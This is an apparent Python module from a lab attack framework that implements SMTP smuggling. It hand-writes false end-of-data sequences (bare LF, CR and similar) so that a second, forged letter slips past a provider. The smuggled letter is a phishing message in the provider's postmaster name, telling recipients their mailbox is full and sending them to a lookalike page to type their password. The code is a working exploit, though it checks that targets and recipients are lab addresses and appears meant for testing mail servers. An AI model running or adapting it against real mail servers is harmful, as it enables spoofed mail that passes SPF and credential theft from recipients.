"""SMTP smuggling: a second letter inside the first, behind an end that only some servers believe in.

A letter ends with <CR><LF>.<CR><LF>, and with nothing else (RFC 5321 section 4.1.1.4). Where one server
passes on what looks like an end but isn't, and the next one takes it for an end, the rest of the letter
becomes commands: a second letter, with an envelope that the first server has never seen. It comes from
that server's address, so SPF has nothing against it. Postfix ends this with smtpd_forbid_bare_newline.

Libraries double the dots at the beginning of lines. So the octets are written by hand here.
"""

from collections.abc import Iterable
from dataclasses import dataclass
from itertools import product

from labkit.attacker.letters import SOMEBODY, Draft, address
from labkit.attacker.means.passing import CUSTOMER, PROVIDER, Passage, Provider
from labkit.attacker.report import Attempt, Finding, Report, Verdict
from labkit.attacker.scene import Scene
from labkit.errors import PeerError, UsageError
from labkit.network.addresses import Host, lab_domain
from labkit.network.fabric import Network
from labkit.smtp.address import Path
from labkit.smtp.client import SmtpClient
from labkit.smtp.envelope import Letter
from labkit.smtp.reply import Reply

GOAL = "two letters out of one, the second in the provider's name"
LINE_ENDS = {"CRLF": b"\r\n", "LF": b"\n", "CR": b"\r", "CRCRLF": b"\r\r\n"}
THE_END = b"\r\n.\r\n"

# Every lone dot between two line ends, but for those that do end a letter.
SEQUENCES = {
    f"{before}.{after}": LINE_ENDS[before] + b"." + LINE_ENDS[after]
    for before, after in product(LINE_ENDS, repeat=2)
    if THE_END not in LINE_ENDS[before] + b"." + LINE_ENDS[after]
}
FORGED = address("postmaster@webmail.example")
SUBJECT = "Your mailbox is full"
TEXT = (
    "Dear customer,\n\nyour mailbox is full. Type your password at\nwebmail-login.example/more "
    "to get more room.\n\nExample Webmail"
)
IN_ONE_PIECE = "the next server took it for one letter, with the other as text in it"


@dataclass(frozen=True, slots=True)
class _Try:
    """One sequence: its name, the mark of the letter behind it, and what became of the one before it."""

    name: str
    nonce: str
    session: int
    answer: Reply
    passage: Passage | None


async def run(
    network: Network,
    source: Host,
    target: Host,
    scene: Scene,
    *,
    recipient: str = SOMEBODY,
    sequences: Iterable[str] = tuple(SEQUENCES),
    port: int = 25,
) -> Report:
    """Hide a letter in another behind each of the ``sequences``, through a provider, for ``target``.

    Raises UsageError for an unknown sequence, OutsideTheLab for a target that isn't in the lab and for a
    recipient who could be real.
    """
    to, names = address(recipient), _known(sequences)
    lab_domain(to.domain)
    network.host_at(target.address)
    provider = Provider(network, scene.authority, target, port)
    await provider.open()
    try:
        asked = await _openly(network, source)
        tries = [await _try(network, source, scene, provider, to, name) for name in names]
    finally:
        provider.close()
    await scene.settle()
    ends = "a false end" if len(names) == 1 else f"{len(names)} false ends"
    what = f"a letter hidden in another behind {ends}, sent through {PROVIDER.name}"
    return await scene.report(
        network,
        source,
        what,
        [_attempt(one) for one in tries],
        [asked, *(_finding(one, scene) for one in tries)],
        goal=GOAL,
    )


def _known(sequences: Iterable[str]) -> list[str]:
    names = list(sequences)
    for name in names:
        if name not in SEQUENCES:
            raise UsageError(f"{name!r} is no false end. There are: {', '.join(SEQUENCES)}.")
    return names


async def _openly(network: Network, source: Host) -> Finding:
    """What the provider says to somebody who asks to send in its own name."""
    try:
        client = await SmtpClient.connect(network, source, PROVIDER.address, 25)
        await client.ehlo(source.domain)
        answer = await client.command(f"MAIL FROM:{FORGED}")
        await client.quit()
    except PeerError as error:
        return Finding("the provider doesn't answer", str(error), harm=False)
    return Finding("asked openly, the provider refuses this sender", str(answer), client.session, harm=False)


async def _try(network: Network, source: Host, scene: Scene, provider: Provider, to: Path, name: str) -> _Try:
    carrier = Draft(CUSTOMER, to, CUSTOMER.address, "Hello", "Hello,\n\nhow are you?")
    hidden = Draft(FORGED, to, f"Example Webmail <{FORGED.address}>", SUBJECT, TEXT)
    first, nonce, before = next(scene.nonces), next(scene.nonces), len(provider.passages)
    outer = carrier.letter(first, scene.clock.now, source.domain)
    inner = hidden.letter(nonce, scene.clock.now, source.domain)
    session, answer = await _hand_over(network, source, outer, _octets(outer, SEQUENCES[name], inner))
    found = _Try(name, nonce, session, answer, (*provider.passages[before:], None)[0])
    scene.progress(_attempt(found))
    return found


def _octets(outer: Letter, sequence: bytes, inner: Letter) -> bytes:
    """The first letter, its false end, and what is to become commands; then the true end."""
    commands = f"MAIL FROM:{inner.reverse_path}\r\nRCPT TO:{inner.forward_paths[0]}\r\nDATA\r\n"
    start = outer.content.removesuffix(b"\r\n")
    return start + sequence + commands.encode() + inner.content.removesuffix(b"\r\n") + THE_END


async def _hand_over(network: Network, source: Host, letter: Letter, octets: bytes) -> tuple[int, Reply]:
    """The session, and the provider's last answer."""
    client = await SmtpClient.connect(network, source, PROVIDER.address, 25)
    try:
        await client.ehlo(source.domain)
        for line in (f"MAIL FROM:{letter.reverse_path}", f"RCPT TO:{letter.forward_paths[0]}", "DATA"):
            answer = await client.command(line)
        client.write(octets)
        answer = await client.hear()
        await client.quit()
    finally:
        client.abort()
    return client.session, answer


def _attempt(one: _Try) -> Attempt:
    """What became of the hidden letter, before a look into the mailboxes."""
    if not one.answer.is_positive:
        return Attempt(one.nonce, _refused(one.answer), ".", one.answer, one.session)
    if not one.passage or not one.passage.more:
        return Attempt(one.nonce, Verdict.NOT_SENT, session=one.session, trouble=IN_ONE_PIECE)
    said = next((each for each in one.passage.more if not each.is_positive), one.passage.more[-1])
    verdict = Verdict.ACCEPTED if said.is_positive else _refused(said)
    return Attempt(one.nonce, verdict, ".", said, one.session)


def _refused(answer: Reply) -> Verdict:
    return Verdict.DEFERRED if answer.is_transient else Verdict.REFUSED


def _finding(one: _Try, scene: Scene) -> Finding:
    """What the next server made of it, as a line for this sequence; the letters are counted apart."""
    session = one.passage.session if one.passage else one.session
    if not one.answer.is_positive:
        return Finding(
            f"{one.name}: refused as a whole", f"session {session}: {one.answer}", session, harm=False
        )
    if not one.passage or not one.passage.more:
        return Finding(f"{one.name}: one letter", f"session {session}", session, harm=False)
    became = "the second is in the mailbox" if scene.holds(one.nonce) else str(_attempt(one).reply)
    proof = f"session {session}, from {PROVIDER.address}: {became}"
    return Finding(f"{one.name}: two letters out of one", proof, session, harm=False)
